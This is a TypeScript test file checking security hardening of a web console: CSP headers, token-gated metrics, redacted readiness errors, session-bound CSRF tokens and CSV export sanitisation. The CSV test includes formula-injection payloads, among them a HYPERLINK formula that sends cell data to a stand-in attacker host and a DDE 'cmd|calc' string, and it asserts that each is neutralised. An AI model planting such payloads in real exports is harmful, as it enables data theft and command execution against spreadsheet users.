// Issue 24, item 7: a Content-Security-Policy on the console (the browser suite walks the console
// under it: test/browser/csp.test.ts); /metrics behind a scrape token with the database count
// cached; /readyz telling anonymous callers no dependency's error text; the CSRF token bound to its
// session; CSV cells that a spreadsheet would run as a formula neutralised; no http:// identity
// provider in production.
import { randomBytes, randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseEnv } from '../../config/env.js';
import { reportCsv } from '../../api/services/reports.js';
import { startTestService, type TestService } from '../helpers/service.js';

const METRICS_TOKEN = randomBytes(32).toString('hex');
/** Every setting production requires. */
const production = {
  NODE_ENV: 'production',
  AUTH_SECRET: 'a'.repeat(32),
  COOKIE_SECRET: 'c'.repeat(32),
  METRICS_TOKEN: 'm'.repeat(32),
  DATABASE_URL: 'postgres://db/bpm',
  TEMPORAL_ADDRESS: 'temporal:7233',
  PUBLIC_URL: 'https://bpm.example.org',
  OIDC_ISSUER_URL: 'https://idp.example.org',
  OIDC_CLIENT_ID: 'bpm',
  OIDC_CLIENT_SECRET: 's',
};
let s: TestService;
beforeAll(async () => {
  s = await startTestService({ worker: false, env: { METRICS_TOKEN } });
});
afterAll(async () => {
  await s?.stop();
});

describe('the console', () => {
  it('is served with a Content-Security-Policy that allows scripts from its own origin only', async () => {
    const res = await s.request('GET', '/login', { headers: { accept: 'text/html' } });
    const csp = String(res.headers['content-security-policy'] ?? '');
    expect(csp).toMatch(/default-src 'self'/);
    expect(csp).toMatch(/script-src 'self'(;|$)/);
    expect(csp).toMatch(/object-src 'none'/);
    expect(csp).toMatch(/frame-ancestors 'none'/);
  });
});

describe('/metrics', () => {
  it('answers only the scraper holding METRICS_TOKEN', async () => {
    expect((await s.request('GET', '/metrics')).status).toBe(401);
    expect((await s.request('GET', '/metrics', { token: 'x'.repeat(64) })).status).toBe(401);
    const scraped = await s.request('GET', '/metrics', { token: METRICS_TOKEN });
    expect(scraped.status).toBe(200);
    expect(String(scraped.body)).toMatch(/bpm_outbox_backlog \d+/);
  });

  it('counts the outbox backlog at most once per cache period, not on every scrape', async () => {
    await s.request('GET', '/metrics', { token: METRICS_TOKEN });
    let queries = 0;
    const count = () => queries++;
    s.db.pool.on('acquire', count);
    try {
      for (let i = 0; i < 5; i++) expect((await s.request('GET', '/metrics', { token: METRICS_TOKEN })).status).toBe(200);
    } finally {
      s.db.pool.off('acquire', count);
    }
    expect(queries).toBeLessThanOrEqual(1);
  });

  it('in production a scrape token is required', () => {
    const { METRICS_TOKEN: _token, ...withoutToken } = production;
    expect(() => parseEnv(withoutToken)).toThrow(/METRICS_TOKEN: required in production/);
    expect(parseEnv(production).NODE_ENV).toBe('production');
  });
});

describe('/readyz', () => {
  it('says which dependency is unavailable, not what it answered', async () => {
    const lost = await startTestService({ worker: false, env: { TEMPORAL_NAMESPACE: `no-such-namespace-${randomUUID()}` } });
    try {
      const res = await lost.request('GET', '/readyz');
      expect(res.status).toBe(503);
      expect(res.body).toEqual({ ready: false, checks: { postgres: 'ok', temporal: 'unavailable' } });
    } finally {
      await lost.stop();
    }
  });
});

describe('CSRF', () => {
  it("a CSRF token (and its cookie) from one session does not pass with another session's cookie", async () => {
    const mine = await s.signIn('supervisor-2', 'supervisor');
    const theirs = await s.signIn('jinan-agent-1');
    // Cookie tossing: their CSRF cookie planted beside my session cookie, with their token.
    const planted = `${/bpm_session=[^;]+/.exec(mine.cookie)![0]}; ${/_csrf=[^;]+/.exec(theirs.cookie)![0]}`;
    const res = await s.request('PUT', '/v1/me/role', { session: { cookie: planted, csrf: theirs.csrf }, body: { role: 'reviewer' } });
    expect(res.status).toBe(403);
    expect(res.body.error.code).toBe('CSRF_TOKEN_INVALID');
    // My own token still works.
    expect((await s.request('PUT', '/v1/me/role', { session: mine, body: { role: 'reviewer' } })).status).toBe(200);
  });
});

describe('CSV export', () => {
  it('neutralises cells a spreadsheet would run as a formula', () => {
    const row = {
      org: 'jinan',
      created: 1,
      reviewed: 1,
      returned: 0,
      returnRate: 0,
      becameOrders: 1,
      onTimeResponseRate: null,
      onTimeResolutionRate: null,
      open: 0,
      overdue: 0,
      escalationsByLevel: {},
    };
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+cmd|calc', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];
    const csv = reportCsv(names.map((name) => ({ ...row, name })) as Parameters<typeof reportCsv>[0]);
    const cells = csv
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .slice(1, -1)
      .map((line) => line.split(',')[1]!.replace(/^"/, ''));
    for (const cell of cells) expect(cell, cell).toMatch(/^'/);
    expect(csv).toContain('jinan,"\'=HYPERLINK(""http://evil.example/?x=""&A1');
  });
});

describe('single sign-on in production', () => {
  it('refuses an http:// identity provider (an IdP on loopback excepted: nothing crosses a network)', () => {
    expect(() => parseEnv({ ...production, OIDC_ISSUER_URL: 'http://idp.example.org' })).toThrow(/OIDC_ISSUER_URL: .*https/);
    expect(parseEnv({ ...production, OIDC_ISSUER_URL: 'https://idp.example.org' }).OIDC_ISSUER_URL).toBe('https://idp.example.org');
    expect(parseEnv({ ...production, OIDC_ISSUER_URL: 'http://127.0.0.1:9000' }).OIDC_ISSUER_URL).toBe('http://127.0.0.1:9000');
  });
});
